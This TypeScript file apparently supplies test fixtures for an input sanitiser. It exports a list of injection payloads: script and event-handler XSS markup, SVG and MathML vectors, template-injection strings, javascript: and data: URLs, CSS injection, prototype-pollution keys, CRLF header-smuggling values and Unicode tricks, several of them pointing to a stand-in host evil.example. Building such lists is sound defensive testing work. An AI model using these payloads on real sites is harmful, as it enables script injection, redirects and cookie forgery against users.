/** What an attacker writes instead of words. Each would set `window.ran`, send a request to another site, or break a header, if it got through. */
const run = 'window.ran=1';
const elsewhere = 'https://evil.example/x';

const markup = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `</script><script>${run}</script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}" `,
  `"><img src=x onerror=${run}>`,
  `<image src=x onerror=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<body onload=${run}>`,
  `<div onpointerover=${run}>x</div>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="${elsewhere}"></object>`,
  `<embed src="${elsewhere}">`,
  `<link rel=stylesheet href="${elsewhere}">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=${elsewhere}">`,
  `<form action="${elsewhere}"><button>Send</button></form>`,
  `<template shadowrootmode="open"><script>${run}</script></template>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<textarea></textarea><img src=x onerror=${run}>`,
  `</textarea><img src=x onerror=${run}>`,
  `</title><img src=x onerror=${run}>`,
  `</style><img src=x onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<a href="javascript:${run}">Press</a>`,
  `<co-i-statement name="x" action="${elsewhere}">Mine</co-i-statement>`,
];
const svg = [
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><foreignObject><iframe src="javascript:parent.${run}"></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${run}'/></svg>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
];
const templates = [
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `#{${run}}`,
  `[[${run}]]`,
  `{% raw %}${run}{% endraw %}`,
  `@{${run}}`,
  `{count} {label} {problem} {date} {step} {total}`,
  `$& $1 $\` $'`,
];
const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  ` javascript:${run}`,
  `data:text/html,<script>opener.${run}</script>`,
  `vbscript:${run}`,
  `blob:${elsewhere}`,
  `//evil.example/x`,
  `https:evil.example`,
  `#"onclick="${run}`,
];
const styles = [
  `red;background:url(${elsewhere})`,
  `}</style><img src=x onerror=${run}>`,
  `expression(${run})`,
  `url("${elsewhere}")`,
  `@import '${elsewhere}';`,
  `root dark light calm more-contrast shield unseen`,
];
const keys = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__proto__[polluted]',
  'constructor.prototype.polluted',
  'innerHTML',
  'onclick',
];
const headers = [`home\r\nSet-Cookie: stolen=1`, `home\nLocation: ${elsewhere}`, `home"; filename="evil.html`, `home\u0000`, `=?utf-8?q?home?=`];
const unicode = ['\u202e\u2066evil\u2069', '\ud800', '\ufeff\u200b', '＜script＞window.ran=1＜/script＞', 'ﬀ\u0301'.repeat(200)];

export const payloads: readonly string[] = [...markup, ...svg, ...templates, ...addresses, ...styles, ...keys, ...headers, ...unicode];
